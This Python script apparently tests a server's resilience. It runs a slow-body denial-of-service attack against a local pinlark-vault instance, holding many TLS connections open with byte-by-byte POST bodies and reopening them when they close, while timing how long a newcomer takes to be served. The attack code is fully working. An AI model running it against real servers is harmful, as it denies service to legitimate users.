#!/usr/bin/env python3
"""A slow-body attack on pinlark-vault, measured from a newcomer's side.

Opens many TLS connections from several loopback addresses; each sends a POST head that
announces a large body, then one body byte every few seconds, and is opened again as soon as
the server closes it (an attacker that keeps trying). Meanwhile a newcomer from 127.0.0.1
connects once a second and GETs a vault. Prints how long the newcomer took to be served, how
long the first wave of slow connections lasted, and how many the attacker held at the end.
The figures are printed, never compared against anything.
"""
import argparse
import asyncio
import ssl
import statistics
import time

VAULT = "/vault/pinlark/" + "a" * 64


async def attacker(index, args, ctx, state, start_gate):
    address = "127.0.0.%d" % (2 + index % args.addresses)
    first = True
    while not state["stop"]:
        opened = time.monotonic()
        try:
            async with start_gate:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection("127.0.0.1", args.port, ssl=ctx,
                                            server_hostname="127.0.0.1",
                                            local_addr=(address, 0)), 30)
            writer.write(("POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                          "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"
                          '{"data":"' % VAULT).encode())
            await writer.drain()
            state["open"] += 1
            try:
                while not state["stop"]:
                    # Whatever comes back (an answer or the end) means the server let go.
                    try:
                        await asyncio.wait_for(reader.read(1), args.drip)
                        break
                    except asyncio.TimeoutError:
                        pass
                    writer.write(b"x")
                    await writer.drain()
            finally:
                state["open"] -= 1
            if first:
                state["first_wave"].append(time.monotonic() - opened)
            writer.close()
        except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError):
            if first:
                state["first_wave"].append(time.monotonic() - opened)
            await asyncio.sleep(0.1)
        first = False
        state["reopened"] += 1


async def newcomer(args, ctx, state):
    began = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", args.port, ssl=ctx,
                                    server_hostname="127.0.0.1"), args.probe_timeout)
        writer.write(("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % VAULT).encode())
        await writer.drain()
        line = await asyncio.wait_for(reader.readline(),
                                      max(0.1, args.probe_timeout - (time.monotonic() - began)))
        writer.close()
        status = int(line.split()[1]) if line else 0
    except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError, IndexError, ValueError):
        status = 0
    state["probes"].append((time.monotonic() - state["began"], time.monotonic() - began, status))


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--connections", type=int, default=1024)
    parser.add_argument("--addresses", type=int, default=16)
    parser.add_argument("--drip", type=float, default=5.0)
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--probe-timeout", type=float, default=10.0)
    args = parser.parse_args()

    ctx = ssl.create_default_context(cafile=args.ca)
    state = {"stop": False, "open": 0, "reopened": 0, "first_wave": [], "probes": [],
             "began": time.monotonic()}
    gate = asyncio.Semaphore(64)  # handshakes at once, so Python keeps up
    attackers = [asyncio.create_task(attacker(i, args, ctx, state, gate))
                 for i in range(args.connections)]
    probes = []
    peak = 0
    while time.monotonic() - state["began"] < args.seconds:
        probes.append(asyncio.create_task(newcomer(args, ctx, state)))
        for _ in range(10):
            await asyncio.sleep(0.1)
            peak = max(peak, state["open"])
    await asyncio.gather(*probes)
    held_at_end = state["open"]
    state["stop"] = True
    for task in attackers:
        task.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)

    served = [p for p in state["probes"] if p[2] != 0]  # any answer: the vault is empty
    times = sorted(p[1] for p in served)
    print("slow-body attack: %d connections from %d addresses, a byte every %.0f s, %.0f s"
          % (args.connections, args.addresses, args.drip, args.seconds))
    print("  slow connections held at once: peak %d, at the end %d; reopened %d times"
          % (peak, held_at_end, state["reopened"]))
    wave = sorted(state["first_wave"])
    if wave:
        print("  first wave of slow connections lasted: median %.1f s, longest %.1f s "
              "(%d of %d ended)" % (statistics.median(wave), wave[-1], len(wave),
                                     args.connections))
    print("  newcomer probes: %d, served %d, not served within %.0f s: %d"
          % (len(state["probes"]), len(served), args.probe_timeout,
             len(state["probes"]) - len(served)))
    if times:
        print("  time to serve a newcomer: median %.3f s, 95th percentile %.3f s, longest %.3f s"
              % (statistics.median(times), times[int(0.95 * (len(times) - 1))], times[-1]))


if __name__ == "__main__":
    asyncio.run(main())
